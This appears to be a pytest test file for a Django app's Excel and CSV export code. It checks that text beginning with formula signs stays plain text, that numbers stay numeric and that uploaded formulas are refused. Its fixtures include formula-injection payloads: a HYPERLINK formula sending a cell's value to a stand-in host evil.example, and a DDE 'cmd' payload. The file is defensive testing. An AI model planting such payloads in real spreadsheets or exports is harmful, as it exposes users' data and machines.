"""Text people typed is written as text that no spreadsheet evaluates, in every xlsx and CSV.

A name or note starting with = + - @ (or a tab, a carriage return) must not become a formula:
the xlsx cell is a string cell (no ``<f>`` element) showing exactly the text, the CSV field
starts with a single quote; numbers stay numbers; the period workbook reads back unchanged.
"""

import csv
import io
import re
import zipfile

import pytest
from django.test import RequestFactory
from openpyxl import load_workbook

from parindex.core.excel import workbooks
from parindex.core.excel.annex import write_annex
from parindex.core.excel.reading import ImportProblems
from parindex.core.excel.safe import csv_field, is_risky
from parindex.core.excel.writing import write_period, write_scorecard, write_template
from parindex.core.models import (
    Assessment,
    Period,
    PeriodGroup,
    ResultSet,
    ScoreEntry,
    UnitGroup,
)
from parindex.core.rankings import league_rows
from parindex.core.services.imports import import_period
from parindex.core.services.results import compute_results
from parindex.web.exports import export_arguments
from parindex.web.views.rankings import EXPORTS, league_context
from tests.builders import assess, full_scores, make_period, make_unit

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?d="&B5,"Xem")'
RISKY_NAMES = {
    "A": LINK,
    "B": "+1+cmd|' /C calc'!A0",
    "C": "-2+3",
    "D": "@SUM(1+1)",
}
GROUP_NAME = "=1+1 khối"
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def formulas_in(data: bytes) -> list[str]:
    """Return every formula element of every worksheet of an xlsx file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(r"<f[ >][^<]*", archive.read(n).decode())]


def cells_of(data: bytes) -> list:
    """Return every cell of the workbook that holds something."""
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value]


def assert_text_only(data: bytes, expected: set[str]) -> None:
    """No formula anywhere; each expected text is in a string cell, exactly as typed."""
    assert formulas_in(data) == []
    cells = cells_of(data)
    assert not [c for c in cells if c.data_type == "f"]
    shown = {c.value for c in cells if c.data_type == "s"}
    assert expected <= shown, expected - shown
    assert all(c.quotePrefix for c in cells if is_risky(c.value))


def risky_period(year=2022):
    period = make_period(year)
    UnitGroup.objects.filter(code="SO").update(name=GROUP_NAME)
    for code, name in RISKY_NAMES.items():
        assessment = assess(period, make_unit(code, name=name), full_scores(40, 30))
        assessment.unranked_reason = "=1/0" if code == "D" else ""
        assessment.save()
    compute_results(period)
    return Period.objects.get(pk=period.pk)


def test_the_scorecard_writes_notes_and_reasons_starting_with_formula_signs_as_text():
    period = make_period(2022)
    assessment = assess(period, make_unit("A", name="@Sở A"), full_scores(40, 30))
    ScoreEntry.objects.filter(assessment=assessment, criterion__code="1.1").update(
        self_note=LINK, appraisal_note="+1-1", explanation="-Giải trình"
    )
    data = write_scorecard(Assessment.objects.get(pk=assessment.pk), with_appraisal=True)
    assert_text_only(data, {LINK, "+1-1", "-Giải trình"})
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == "@Sở A — Chỉ số CCHC năm 2022"
    assert (sheet["D4"].value, sheet["D4"].data_type) == (60, "n")  # numbers stay numbers


def test_the_annex_writes_unit_group_and_reason_text_as_text():
    period = risky_period()
    period_group = PeriodGroup.objects.select_related("group").get(period=period)
    results, areas = league_rows(period, period_group)
    data = write_annex(
        period, period_group, results, areas, result_set=ResultSet.objects.get(period=period)
    )
    assert_text_only(data, {*RISKY_NAMES.values(), GROUP_NAME.upper()})
    numbers = [c.value for c in cells_of(data) if c.data_type == "n"]
    assert numbers.count(70) == 2 * len(RISKY_NAMES)  # total points and index: 40 + 30 of 100


def test_the_period_workbook_writes_text_as_text_and_reads_it_back_unchanged():
    period = risky_period()
    data = write_period(period)
    assert_text_only(data, {*RISKY_NAMES.values(), GROUP_NAME, "=1/0"})
    read = workbooks.read_period(io.BytesIO(data))
    assert {u["code"]: u["name"] for u in read.units} == RISKY_NAMES
    assert read.groups["SO"]["name"] == GROUP_NAME
    read.year = 2019
    again = write_period(import_period(read))
    assert content(again, skip="Năm") == content(data, skip="Năm")


def content(data: bytes, *, skip: str) -> dict:
    workbook = load_workbook(io.BytesIO(data), read_only=True)
    return {
        s.title: [tuple(r) for r in s.iter_rows(values_only=True) if r[0] != skip] for s in workbook
    }


def test_a_real_formula_in_an_uploaded_workbook_is_still_refused():
    period = risky_period()
    workbook = load_workbook(io.BytesIO(write_period(period)))
    workbook["Đơn vị"]["B2"] = "=CONCAT(B3, B4)"  # a formula typed in Excel
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(ImportProblems) as caught:
        workbooks.read_period(buffer)
    assert [(p.sheet, p.cell) for p in caught.value.problems] == [("Đơn vị", "B2")]


def test_templates_have_no_formula():
    for kind in ("period", "criteria", "units"):
        assert formulas_in(write_template(kind)) == []
    assert formulas_in(write_template("survey", survey_codes=["=2.1"])) == []


def test_the_csv_export_prefixes_text_starting_with_formula_signs_and_keeps_numbers():
    period = risky_period()
    period_group = PeriodGroup.objects.select_related("group").get(period=period)
    league = league_context(RequestFactory().get("/"), period, period_group)
    response = EXPORTS["csv"](league["table"], **export_arguments(period, period_group, league))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    fields = [field for row in rows for field in row]
    assert [f for f in fields if is_risky(f) and not NUMBER.fullmatch(f)] == []
    assert {"'" + name for name in RISKY_NAMES.values()} <= set(fields)
    assert "'=1+1 KHỐI" in fields
    by_code = {row[1]: row for row in rows if len(row) > 2 and row[1] in RISKY_NAMES}
    assert by_code["A"][2] == "'" + LINK
    assert "70.00" in by_code["A"]  # the index, as published


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("@A", "'@A"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-2+3", "'-2+3"),
        ("-1.50", "-1.50"),  # a number stays a number
        ("-3", "-3"),
        ("Sở A", "Sở A"),
        ("", ""),
        (7, 7),
    ],
)
def test_a_csv_field_is_text_only_when_it_could_be_a_formula(value, expected):
    assert csv_field(value) == expected
